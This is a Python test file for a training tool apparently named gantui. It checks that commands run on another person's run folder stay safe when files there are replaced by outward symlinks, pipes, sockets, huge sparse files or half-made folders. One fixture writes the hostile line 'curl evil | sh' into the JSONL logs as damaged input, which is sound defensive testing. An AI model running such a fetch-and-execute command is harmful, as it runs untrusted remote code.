"""A run's folder from a stranger: whatever lies in the place of one of its files, commands say so or do without.

They never wait for it, follow it out of the folder, or write or remove anything outside; and the other runs are there.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from types import FrameType

import pytest

from gantui.cli.outcome import outcome
from gantui.errors import Exit, Refusal
from gantui.session.attach.remote import NobodyListens, Remote
from gantui.session.run import listing
from gantui.session.run.directory import RunDirectory
from gantui.session.run.find_run import find_run
from gantui.session.run.replay import Replay
from tests.session.small import finish, start

NEWEST = "checkpoints/step-0000000060.safetensors"
NAMES = (
    *("run.json", "experiment.toml", "metrics.jsonl", "events.jsonl", "lock", "attach.json", "attach.sock"),
    *("output.log", "traceback.txt", "report.html", "metrics.csv", "metrics.jsonl.damaged", "run.json.damaged"),
    *("checkpoints", NEWEST, "checkpoints/best.safetensors", "snapshots", "snapshots/common.snapshot"),
)
"""What is put in another's place, in the folder of a run."""
PATIENCE = 120
"""Seconds after which a command hangs."""


def _socket(path: Path) -> None:
    here = os.getcwd()
    os.chdir(path.parent)  # the name of a socket must be short
    try:
        with socket.socket(socket.AF_UNIX) as bound:
            bound.bind(path.name)
    finally:
        os.chdir(here)


def _large(path: Path) -> None:
    with open(path, "wb") as file:
        file.truncate(1 << 42)  # takes no room on the disk


ODD: dict[str, Callable[[Path, Path], object]] = {
    "link out": lambda path, outside: path.symlink_to(outside / "file"),
    "link to a folder": lambda path, outside: path.symlink_to(outside),
    "link to nowhere": lambda path, outside: path.symlink_to(outside / "nowhere"),
    "link to zeros": lambda path, _: path.symlink_to("/dev/zero"),
    "pipe": lambda path, _: os.mkfifo(path),
    "folder": lambda path, _: path.mkdir(),
    "socket": lambda path, _: _socket(path),
    "large": lambda path, _: _large(path),
}


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run that is done, with damaged lines so that there is something to be set aside."""
    path = tmp_path_factory.mktemp("whole") / "whole"
    finish(start(path, "schedule.steps=60", "evaluation.every=20", "threads=1"))
    for name in ("metrics.jsonl", "events.jsonl"):
        with open(path / name, "a") as file:
            file.write("curl evil | sh\n")
    return path


@pytest.fixture
def alarm() -> Iterator[None]:
    """What waits for ever is ended."""

    def ring(number: int, frame: FrameType | None) -> None:
        raise AssertionError(f"nothing came in {PATIENCE} s")

    before = signal.signal(signal.SIGALRM, ring)
    signal.alarm(PATIENCE)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


class World:
    """Where runs lie, one of them a stranger's, and what lies beside them."""

    def __init__(self, folder: Path, whole: Path) -> None:
        self.root, self.outside = folder / "runs", folder / "outside"
        self.run = self.root / "theirs"
        shutil.copytree(whole, self.run)
        shutil.copytree(whole, self.root / "ours")
        self.outside.mkdir()
        (self.outside / "file").write_text("precious\n")
        for name in ("step-0000000001.safetensors", "step-0000000002.snapshot", "common.snapshot"):
            (self.outside / name).write_text("of another run\n")
        self.before = self.seen()

    def put(self, name: str, kind: str) -> None:
        path = self.run / name
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        ODD[kind](path, self.outside)

    def seen(self) -> dict[str, str]:
        return {path.name: path.read_text() for path in self.outside.iterdir()}


@pytest.fixture
def world(tmp_path: Path, whole: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    monkeypatch.setenv("GANTUI_RUNS", str(tmp_path / "runs"))
    return World(tmp_path, whole)


def check(world: World, words: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    """Carry out the command of these WORDS, and see that it ended well; what it said."""
    status = outcome(words)
    out, err = capsys.readouterr()
    assert status in (Exit.FINISHED, Exit.USAGE), err
    assert "internal error" not in err
    assert "Traceback" not in out + err
    traceback = world.run / "traceback.txt"
    assert traceback.is_symlink() or not traceback.is_file() or traceback.stat().st_size == 1 << 42
    assert world.seen() == world.before, f"{words[0]} has reached out of the run's folder"
    if status == Exit.USAGE:
        assert len(err.strip().splitlines()) <= 3
    return out + err


@pytest.mark.parametrize("kind", ODD)
@pytest.mark.parametrize("name", NAMES)
@pytest.mark.usefixtures("alarm")
def test_reading(world: World, name: str, kind: str, capsys: pytest.CaptureFixture[str]) -> None:
    world.put(name, kind)
    listed = json.loads(check(world, ["runs", "--json"], capsys))
    assert {run["name"] for run in listed} == {"theirs", "ours"}
    check(world, ["compare", "theirs", "ours"], capsys)
    check(world, ["export", "theirs", "--csv"], capsys)
    for look in (Replay, lambda path: Remote(path, patience=0), lambda path: find_run("theirs", asked_by="x")):
        with suppress(Refusal, NobodyListens):
            look(world.run)  # type: ignore[no-untyped-call]
    assert world.seen() == world.before


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        *((name, "link to a folder" if name in ("checkpoints", "snapshots") else "link out") for name in NAMES),
        *((name, "pipe") for name in NAMES),
    ],
)
@pytest.mark.usefixtures("alarm")
def test_going_on(world: World, name: str, kind: str, capsys: pytest.CaptureFixture[str]) -> None:
    world.put(name, kind)
    check(world, ["train", "--resume", "theirs", "--steps", "70", "--quiet"], capsys)


@pytest.mark.parametrize("name", ["run.json", "experiment.toml", "metrics.jsonl", "checkpoints", NEWEST, "snapshots"])
@pytest.mark.usefixtures("alarm")
def test_looking_at_players(world: World, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    world.put(name, "link to a folder" if name in ("checkpoints", "snapshots") else "pipe")
    check(world, ["report", "theirs"], capsys)
    check(world, ["sample", "theirs", "-n", "4"], capsys)


@pytest.mark.parametrize(("name", "words"), [("screens", []), ("generator", ["--generator"])])
def test_what_is_made_on_demand_is_not_put_elsewhere(
    world: World, name: str, words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    (world.run / name).symlink_to(world.outside)
    check(world, ["export", "theirs", *(words or ["--csv"])], capsys)


def test_the_folder_itself_may_be_a_link(world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    big = tmp_path / "big disk"
    shutil.move(world.run, big)
    world.run.symlink_to(big)
    said = check(world, ["train", "--resume", "theirs", "--steps", "80", "--quiet"], capsys)
    assert json.loads((big / "run.json").read_text())["step"] == 80, said
    assert "theirs" in check(world, ["runs"], capsys)


def test_a_preset_that_is_no_file_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for kind, expected in (("pipe", "is a pipe; expected a file"), ("large", "is larger than 1 MiB")):
        path = tmp_path / f"{kind}.toml"
        ODD[kind](path, tmp_path)
        assert outcome(["train", "--preset", str(path)]) == Exit.USAGE
        assert expected in capsys.readouterr().err


class TestAttach:
    def test_the_socket_of_another_training_is_neither_removed_nor_attached_to(
        self, world: World, tmp_path: Path
    ) -> None:
        elsewhere = tmp_path / "gantui-12345678"
        elsewhere.mkdir(mode=0o700)
        _socket(elsewhere / "attach.sock")
        (world.run / "attach.json").write_text(json.dumps({"socket": str(elsewhere / "attach.sock")}))
        with pytest.raises(NobodyListens):
            Remote(world.run)
        finish(start(world.run, resume=True))
        assert (elsewhere / "attach.sock").is_socket()


class TestHalfMade:
    """A process was killed while it made the folder."""

    def killed(self, world: World) -> None:
        (world.run / "run.json").unlink()

    def test_it_is_listed_and_can_be_removed(self, world: World, capsys: pytest.CaptureFixture[str]) -> None:
        self.killed(world)
        assert [run.state for run in listing.all_runs() if run.name == "theirs"] == ["damaged"]
        said = check(world, ["train", "--resume", "theirs"], capsys)
        assert "its process was killed while it made this folder" in said
        check(world, ["runs", "--clean", "theirs", "--yes"], capsys)
        assert not world.run.exists()

    def test_going_back_makes_first_what_tells_that_it_is_one(
        self, world: World, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        from gantui.session.checkpoints import files
        from gantui.session.disk import atomic_write
        from gantui.session.run import branch as branching

        class Killed(BaseException):
            pass

        def killed(*_: object, **__: object) -> None:
            raise Killed

        parent = RunDirectory.open(world.run)
        meta = files.read(world.run / NEWEST).meta
        monkeypatch.setattr(atomic_write, "same", killed)
        monkeypatch.setattr(branching.shutil, "rmtree", killed)  # a killed process takes nothing back
        with pytest.raises(Killed):
            branching.branch(parent, parent.experiment(), meta)
        parent.close()
        monkeypatch.undo()
        monkeypatch.setenv("GANTUI_RUNS", str(world.root))
        (left,) = [run for run in listing.all_runs() if run.name not in ("theirs", "ours")]
        assert left.state == "damaged"
        listing.remove(left)
        assert not left.path.exists()
